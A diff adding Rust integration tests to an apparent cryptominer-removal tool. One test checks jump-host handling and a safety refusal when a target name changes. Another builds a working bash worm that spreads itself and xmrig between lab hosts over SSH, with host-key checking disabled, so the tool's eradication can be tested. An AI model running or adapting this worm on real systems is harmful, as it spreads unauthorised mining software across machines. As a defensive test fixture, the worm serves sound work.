@@ -223,3 +223,186 @@ fn a_link_that_is_cut_before_the_commit_changes_nothing() {
         "{report:#}"
     );
 }
+
+#[test]
+fn an_inventory_of_ansible_and_an_ssh_config_lead_through_a_jump_host() {
+    let Some(world) = World::new("jump") else { return };
+    let site = Site::open(&world, &["jump", "web-1", "web-2"]);
+    let [jump, one, two] = &site.hosts[..] else {
+        panic!("three hosts")
+    };
+    // Only the jump host gets through, and only to another port than the usual one.
+    for host in [one, two] {
+        host.write("/etc/ssh/sshd_config.d/port.conf", "Port 2222\n", 0o644);
+        host.sh("systemctl restart ssh");
+        host.sh(&format!(
+            "nft add table inet gate; nft add chain inet gate in '{{ type filter hook input priority 0; }}'; \
+             nft add rule inet gate in ip saddr {} drop",
+            site.control.address
+        ));
+    }
+    let known = site.control.text("/root/.ssh/known_hosts");
+    let other_port: String = known
+        .lines()
+        .map(|line| line.split_once(' ').expect("a host and its key"))
+        .map(|(host, key)| format!("[{host}]:2222 {key}\n"))
+        .collect();
+    site.control.write("/root/.ssh/known_hosts", known + &other_port, 0o600);
+    let inventory = format!(
+        "[web]\nweb-[1:2]\n[web:vars]\nansible_user=root\nansible_port=2222\nsample=1s\n\
+         ansible_ssh_common_args='-o ProxyJump=root@{}'\n[prod:children]\nweb\n",
+        jump.address
+    );
+    site.control.write("/root/site/hosts", inventory, 0o644);
+    for host in [one, two] {
+        let vars = format!("ansible_host: {}\n", host.address);
+        site.control
+            .write(&format!("/root/site/host_vars/{}.yml", host.name), vars, 0o644);
+    }
+    let deminer = site.control.deminer();
+    let words = ["plan", "triage", "prod", "-i", "/root/site/hosts", "--format", "json"];
+    let plan = deminer.start(&words).answer_within(LONG).expect(0).json();
+    let names: Vec<&Value> = plan["hosts"]
+        .as_array()
+        .expect("a list")
+        .iter()
+        .map(|host| &host["host"])
+        .collect();
+    assert_eq!(names, ["web-1", "web-2"], "{plan:#}");
+
+    let config = |host: &Host<'_>| {
+        format!(
+            "Host target\n  HostName {}\n  User root\n  Port 2222\n  ProxyJump root@{}\n",
+            host.address, jump.address
+        )
+    };
+    site.control.write("/root/one.conf", config(one), 0o600);
+    let playbook = "\
+playbook: remove
+version: 1
+phases:
+  gather:
+    - {id: facts, use: host.facts}
+    - {id: processes, use: process.list, with: {sample: 1s}}
+    - {id: sockets, use: net.sockets}
+  decide:
+    - id: verdict
+      use: miner.judge
+      with: {processes: '{{ steps.processes.rows }}', sockets: '{{ steps.sockets.rows }}', boot_id: '{{ steps.facts.facts.identity.boot_id }}', rules: rules.yml}
+  locate:
+    - {id: trace, use: miner.trace, with: {verdict: '{{ steps.verdict }}', sockets: '{{ steps.sockets.rows }}'}}
+  eradicate:
+    - {id: kill, use: process.kill, with: {processes: '{{ steps.trace.processes }}'}}
+";
+    let rules = include_str!("../../playbooks/rules/linux.yml");
+    site.control.write("/root/remove.yml", playbook, 0o644);
+    site.control.write("/root/rules.yml", rules, 0o644);
+    let cases = [one, two].map(processes::plain);
+    for (host, case) in [one, two].into_iter().zip(&cases) {
+        host.wait("the miner", || case.missing(host).is_empty());
+    }
+    let words = [
+        "plan",
+        "/root/remove.yml",
+        "ssh://target",
+        "--ssh-config",
+        "/root/one.conf",
+        "--format",
+        "json",
+    ];
+    let plan = deminer.start(&words).answer_within(LONG).expect(0).json();
+    let hash = &plan["hash"].as_str().expect("a hash")[..16];
+    // The name leads to another machine by now: it is not the one that was planned, whatever runs on it.
+    site.control.write("/root/one.conf", config(two), 0o600);
+    let apply = ["apply", hash, "--approve", hash, "--format", "json"];
+    let answer = deminer.start(&apply).answer_within(LONG);
+    assert_ne!(answer.code, Some(0), "{answer}");
+    assert!(cases[1].missing(two).is_empty(), "{answer}");
+    assert!(answer.err.contains("another"), "{answer}");
+    for host in [one, two] {
+        assert_eq!(left_of_us(host), Vec::<String>::new());
+    }
+}
+
+/// Writes itself and the miner to the other hosts every five seconds, for ten minutes.
+fn worm(host: &Host<'_>, others: &[&Host<'_>]) -> String {
+    let others: Vec<&str> = others.iter().map(|other| &*other.address).collect();
+    format!(
+        "#!/bin/bash
+while [ $SECONDS -lt 600 ]; do
+    for host in {others}; do
+        for file in spread-$host xmrig; do
+            [ -e /root/.w/$file ] || continue
+            ssh -i /root/.w/key -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=3 root@$host \\
+                \"mkdir -p /root/.w; cat > /root/.w/.new-$file; chmod 755 /root/.w/.new-$file; mv -f /root/.w/.new-$file /root/.w/$file\" \\
+                < /root/.w/$file
+        done
+        ssh -i /root/.w/key -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=3 root@$host \\
+            'pgrep -x xmrig || setsid -f /root/.w/xmrig {words} >/dev/null 2>&1 </dev/null
+             pgrep -f /root/.w/spread-{own} || setsid -f /root/.w/spread-$(hostname -I | tr -d \" \\n\") >/dev/null 2>&1 </dev/null'
+    done >/dev/null 2>&1
+    sleep 5
+done
+",
+        others = others.join(" "),
+        words = processes::WORDS,
+        own = host.address.split('.').next().expect("a part"),
+    )
+}
+
+#[test]
+fn a_worm_is_gone_from_all_hosts_at_the_end_of_one_run() {
+    let Some(world) = World::new("worm") else { return };
+    let _pool = world.pool();
+    let site = Site::open(&world, &["web-1", "web-2", "web-3"]);
+    let miner = processes::mining().program();
+    site.control.sh("ssh-keygen -q -t ed25519 -N '' -f /root/worm");
+    let (key, public) = (site.control.text("/root/worm"), site.control.text("/root/worm.pub"));
+    let scripts: Vec<(String, String)> = site
+        .hosts
+        .iter()
+        .map(|host| {
+            let others: Vec<&Host<'_>> = site.hosts.iter().filter(|other| other.name != host.name).collect();
+            (format!("/root/.w/spread-{}", host.address), worm(host, &others))
+        })
+        .collect();
+    for (host, (own, _)) in site.hosts.iter().zip(&scripts) {
+        let keys = host.text("/root/.ssh/authorized_keys");
+        host.write("/root/.ssh/authorized_keys", keys + &public, 0o600);
+        host.write("/root/.w/key", &key, 0o600);
+        host.write("/root/.w/xmrig", &miner, 0o755);
+        for (path, script) in &scripts {
+            host.write(path, script, 0o755);
+        }
+        processes::start(host, &format!("/root/.w/xmrig {}", processes::WORDS));
+        processes::start(host, own);
+    }
+    for host in &site.hosts {
+        host.wait("the miner", || !host.running("/root/.w/xmrig").is_empty());
+    }
+    let deminer = site.control.deminer();
+    let (hash, plan) = site.plan(&deminer);
+    let words = [
+        "run",
+        "--approve",
+        &hash,
+        "--together",
+        "--watch",
+        "65s",
+        "--format",
+        "json",
+    ];
+    let answer = deminer.start(&words).answer_within(LONG + LONG);
+    let report = answer.json();
+    for host in &site.hosts {
+        let left: Vec<String> = ["/root/.w/xmrig"]
+            .into_iter()
+            .filter(|path| host.has(path))
+            .map(str::to_owned)
+            .collect();
+        assert_eq!(left, Vec::<String>::new(), "`{}`: {report:#}\n{plan:#}", host.name);
+        assert!(host.running("/root/.w/xmrig").is_empty(), "`{}`", host.name);
+        assert_eq!(left_of_us(host), Vec::<String>::new());
+        assert_eq!(*status(&report, &host.address), "eradicated", "{report:#}");
+    }
+}
